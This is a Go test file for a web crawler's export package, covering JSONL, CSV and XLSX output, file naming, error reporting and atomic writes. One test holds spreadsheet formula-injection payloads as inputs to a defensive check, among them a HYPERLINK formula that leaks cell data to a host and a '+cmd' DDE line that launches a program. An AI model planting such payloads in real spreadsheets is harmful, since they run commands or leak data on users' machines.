package export_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"iter"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/hadal-crawler/hadal/extract"
	"github.com/hadal-crawler/hadal/internal/visible"
	"github.com/hadal-crawler/hadal/storage"
	"github.com/hadal-crawler/hadal/storage/export"
)

var (
	noon  = time.Date(2026, 11, 21, 12, 0, 0, 0, time.FixedZone("CET", 3600))
	hard  = "quote \" comma , semicolon ; line\nline\ttab naïve ツ 書籍 𝄞 <b>&amp;</b> \u2028 end"
	books = []storage.Record{
		{Site: "books.example", Key: "1", URL: "https://books.example/1?a=1&b=2", Title: "One", Text: "One by A", Queries: 3, FirstSeen: noon, LastSeen: noon.Add(time.Hour),
			Fields: []extract.Field{
				{Name: "price", Value: "£1,012.50", Kind: "money", Number: 1012.5}, {Name: "author", Value: "A"},
				{Name: "tag", Value: "x"}, {Name: "tag", Value: "y, z"}, {Name: "year", Value: "1999", Kind: "number", Number: 1999}}},
		{Site: "books.example", Key: "2", Title: hard, Text: hard, Queries: 1, FirstSeen: noon, LastSeen: noon,
			Fields: []extract.Field{{Name: "author", Value: hard}, {Name: "year", Value: "n. d."}, {Name: "price", Value: "?", Kind: "money", Number: math.Inf(1)}}},
	}
	columns = []storage.Column{{Field: "price", Heading: "price", Numeric: true}, {Field: "author", Heading: "author"}, {Field: "tag", Heading: "tag"}, {Field: "year", Heading: "year"}}
)

func each(records []storage.Record) iter.Seq2[storage.Record, error] {
	return func(yield func(storage.Record, error) bool) {
		for _, r := range records {
			if !yield(r, nil) {
				return
			}
		}
	}
}

func write(t *testing.T, format export.Format, records []storage.Record) string {
	t.Helper()
	var b bytes.Buffer
	if err := export.Write(context.Background(), &b, format, each(records), export.Options{Columns: export.Table(columns)}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestJSONLHasTheContractsShape(t *testing.T) {
	got := write(t, export.JSONL, books)
	want := `{"site":"books.example","key":"1","url":"https://books.example/1?a=1&b=2","title":"One",` +
		`"fields":{"price":1012.5,"author":"A","tag":["x","y, z"],"year":1999},` +
		`"text":"One by A","queries":3,"first_seen":"2026-11-21T11:00:00Z","last_seen":"2026-11-21T12:00:00Z"}`
	lines := strings.Split(got, "\n")
	if len(lines) != 3 || lines[2] != "" {
		t.Fatalf("%d lines for two records:\n%s", len(lines)-1, got)
	}
	if diff := cmp.Diff(want, lines[0]); diff != "" {
		t.Errorf("line (-want +got):\n%s", diff)
	}
	var back struct {
		Title, Text string
		Fields      map[string]any
	}
	if err := json.Unmarshal([]byte(lines[1]), &back); err != nil {
		t.Fatal(err)
	}
	if back.Title != hard || back.Text != hard {
		t.Errorf("texts do not survive: %+v", back)
	}
	if diff := cmp.Diff(map[string]any{"author": hard, "year": "n. d.", "price": "?"}, back.Fields); diff != "" {
		t.Errorf("fields (-want +got):\n%s", diff)
	}
	if got := write(t, export.JSONL, []storage.Record{{}}); !strings.Contains(got, `"fields":{}`) {
		t.Errorf("a record without fields: %s", got)
	}
	if got := write(t, export.JSONL, nil); got != "" {
		t.Errorf("no records give %q", got)
	}
}

func TestCSVReadsBack(t *testing.T) {
	rows, err := csv.NewReader(strings.NewReader(write(t, export.CSV, books))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"site", "key", "url", "title", "price", "author", "tag", "year", "text", "queries", "first_seen", "last_seen"},
		{"books.example", "1", "https://books.example/1?a=1&b=2", "One", "1012.5", "A", "x; y, z", "1999", "One by A", "3", "2026-11-21T11:00:00Z", "2026-11-21T12:00:00Z"},
		{"books.example", "2", "", hard, "?", hard, "", "n. d.", hard, "1", "2026-11-21T11:00:00Z", "2026-11-21T11:00:00Z"},
	}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
	if got := write(t, export.CSV, nil); got != "site,key,url,title,price,author,tag,year,text,queries,first_seen,last_seen\n" {
		t.Errorf("no records give %q", got)
	}
	bad := write(t, export.CSV, []storage.Record{{Title: "a\xffb"}})
	if !strings.Contains(bad, "a\uFFFDb") {
		t.Errorf("invalid UTF-8 passes: %q", bad)
	}
}

// A spreadsheet computes nothing of what a site shows; numbers stay numbers.
func TestSafeCSVComputesNothing(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "=HYPERLINK(\"http://x/?\"&A1)": "'=HYPERLINK(\"http://x/?\"&A1)", "@SUM(A1)": "'@SUM(A1)", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
		"-2+3": "'-2+3", "-": "'-", "\t=1": "'\t=1", "\n=1": "'\n=1", "\x00=1": "'=1", "\u202e=1": "'=1", "＝1+1": "'＝1+1", "－2+3": "'－2+3", "-5 apples": "'-5 apples",
		"-5": "-5", "+3.25": "+3.25", "-1,012.50": "-1,012.50", "-1 000": "-1 000", "-1'000": "-1'000", "-.5": "-.5", "1e-7": "1e-7", "-3e5": "-3e5", "-12 %": "-12 %",
		"+49 30 1234": "+49 30 1234", "plain": "plain", "a=b": "a=b", "'quoted": "'quoted", "\u009bx": "x",
	} {
		for _, safe := range []bool{true, false} {
			var b bytes.Buffer
			r := storage.Record{Title: in, Text: "t", Fields: []extract.Field{{Name: "f", Value: "x"}}}
			cols, err := export.Pick(export.Table([]storage.Column{{Field: "f", Heading: "=f"}}), []string{"title", "=f", "text"})
			if err != nil {
				t.Fatal(err)
			}
			if err := export.Write(context.Background(), &b, export.CSV, each([]storage.Record{r}), export.Options{Columns: cols, Safe: safe}); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%q: %v, %v", in, rows, err)
			}
			expected, heading := want, "'=f"
			if !safe {
				expected, heading = visible.Without(in), "=f"
			}
			if rows[1][0] != expected || rows[0][1] != heading {
				t.Errorf("%q, safe %v: %q under %q, want %q", in, safe, rows[1][0], rows[0], expected)
			}
		}
	}
}

func TestNamesOfFilesSayTheirFormat(t *testing.T) {
	for name, want := range map[string]export.Format{
		"a.csv": export.CSV, "x/A.CSV": export.CSV, "a.jsonl": export.JSONL, "a.ndjson": export.JSONL, "a.parquet": export.Parquet, "b.c.xlsx": export.XLSX,
		"a.warc": export.WARC, "a.warc.gz": export.WARC, "a": "", "/dev/stdout": "", "dir.d/a": "", ".hidden": "",
	} {
		if got, err := export.FormatOf(name); got != want || err != nil {
			t.Errorf("%s: %q, %v, want %q", name, got, err, want)
		}
	}
	for name, want := range map[string]string{"a.json": ".jsonl", "a.csv.gz": "compressor", "a.zip": "compressor", "a.txt": "no format has the ending .txt", "a.xls": ".xls", "a.2026": ".2026"} {
		if got, err := export.FormatOf(name); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %q, %v, want an error with %s", name, got, err, want)
		}
	}
}

func TestCutCellsAreTold(t *testing.T) {
	long := strings.Repeat("x", 40_000)
	records := []storage.Record{{Title: "short", Text: long}, {Title: long, Text: long}, {Title: "𝄞" + strings.Repeat("y", 32_765)}}
	cut := map[string]int{}
	o := export.Options{Columns: export.Table(nil), Cut: func(column string) { cut[column]++ }}
	if err := export.Write(context.Background(), io.Discard, export.XLSX, each(records), o); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(map[string]int{"text": 2, "title": 1}, cut); d != "" {
		t.Errorf("cut cells (-want +told):\n%s", d)
	}
}

func TestWriteReportsErrors(t *testing.T) {
	broken := errors.New("broken")
	ctx := context.Background()
	failing := func(yield func(storage.Record, error) bool) {
		_ = yield(books[0], nil) && yield(storage.Record{}, broken)
	}
	for _, f := range export.Formats {
		if err := export.Write(ctx, io.Discard, f, failing, export.Options{}); !errors.Is(err, broken) {
			t.Errorf("%s: error of the records: %v", f, err)
		}
		if err := export.Write(ctx, failingWriter{broken}, f, each(books), export.Options{}); !errors.Is(err, broken) {
			t.Errorf("%s: error of the writer: %v", f, err)
		}
		cancelled, cancel := context.WithCancel(ctx)
		cancel()
		if err := export.Write(cancelled, io.Discard, f, each(books), export.Options{}); !errors.Is(err, context.Canceled) {
			t.Errorf("%s: cancelled: %v", f, err)
		}
	}
	if err := export.Write(ctx, io.Discard, "xml", each(books), export.Options{}); err == nil || !strings.Contains(err.Error(), "jsonl") {
		t.Errorf("unknown format: %v", err)
	}
}

type failingWriter struct{ err error }

func (f failingWriter) Write([]byte) (int, error) { return 0, f.err }

func TestToFileIsAllOrNothing(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "out.jsonl")
	say := func(s string) func(io.Writer) error {
		return func(w io.Writer) error { _, err := io.WriteString(w, s); return err }
	}
	holds := func(want string) {
		t.Helper()
		b, err := os.ReadFile(path)
		if err != nil || string(b) != want {
			t.Errorf("file holds %q (%v), want %q", b, err, want)
		}
		entries, err := os.ReadDir(dir)
		for _, e := range entries {
			if strings.Contains(e.Name(), ".part") {
				t.Errorf("left over: %s (%v)", e.Name(), err)
			}
		}
	}
	broken := errors.New("broken")
	half := func(w io.Writer) error { return errors.Join(say("half")(w), broken) }

	if err := export.ToFile(path, half); !errors.Is(err, broken) {
		t.Errorf("error %v", err)
	}
	if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
		t.Error("a failed export made the file")
	}
	if err := export.ToFile(path, say("first")); err != nil {
		t.Error(err)
	}
	holds("first")
	if err := os.Chmod(path, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := export.ToFile(path, half); !errors.Is(err, broken) {
		t.Errorf("error %v", err)
	}
	holds("first")

	link := filepath.Join(dir, "link")
	if err := os.Symlink(path, link); err != nil {
		t.Fatal(err)
	}
	if err := export.ToFile(link, say("second")); err != nil {
		t.Error(err)
	}
	holds("second")
	if info, err := os.Lstat(link); err != nil || info.Mode()&os.ModeSymlink == 0 {
		t.Error("the symbolic link was replaced")
	}
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("permissions are now %v (%v)", info.Mode(), err)
	}
	if err := export.ToFile(os.DevNull, say("gone")); err != nil {
		t.Errorf("a device: %v", err)
	}
	if info, err := os.Stat(os.DevNull); err != nil || info.Mode().IsRegular() {
		t.Error("the device was replaced by a file")
	}
	if err := export.ToFile(dir, say("x")); err == nil {
		t.Error("a directory was written")
	}
}

// FuzzFormats checks that whatever a site shows comes back from a reader that
// we did not write.
func FuzzFormats(f *testing.F) {
	f.Add("author", hard, "k", 1.5)
	f.Add("", "\x00\xff\r\n", `"`, math.Copysign(0, -1))
	f.Add(`a"b\`, " lead", "\r", 1e300)
	f.Fuzz(func(t *testing.T, name, text, key string, n float64) {
		r := storage.Record{Key: key, Title: text, Text: text, FirstSeen: noon, LastSeen: noon, Fields: []extract.Field{
			{Name: name, Value: text}, {Name: name + "_n", Value: text, Kind: "number", Number: n}}}
		cols := []storage.Column{{Field: name, Heading: "a"}, {Field: name + "_n", Heading: "b", Numeric: true}}
		var b bytes.Buffer
		if err := export.Write(context.Background(), &b, export.JSONL, each([]storage.Record{r}), export.Options{}); err != nil {
			t.Fatal(err)
		}
		valid := strings.ToValidUTF8
		var back map[string]any
		if err := json.Unmarshal(b.Bytes(), &back); err != nil || strings.Count(b.String(), "\n") != 1 {
			t.Fatalf("no single line of JSON: %v: %q", err, b.String())
		}
		b.Reset()
		if err := export.Write(context.Background(), &b, export.CSV, each([]storage.Record{r}), export.Options{Columns: export.Table(cols)}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bufio.NewReader(&b)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows: %v", len(rows), err)
		}
		// The reader turns \r\n inside quotes into \n.
		want := strings.ReplaceAll(visible.Without(valid(text, "\uFFFD")), "\r\n", "\n")
		if got := rows[1][3]; got != want {
			t.Errorf("title %q comes back as %q", want, got)
		}
		if got := fmt.Sprint(rows[1][5]); !math.IsNaN(n) && !math.IsInf(n, 0) && name+"_n" != name && got == "" {
			t.Errorf("number %v is missing", n)
		}
	})
}
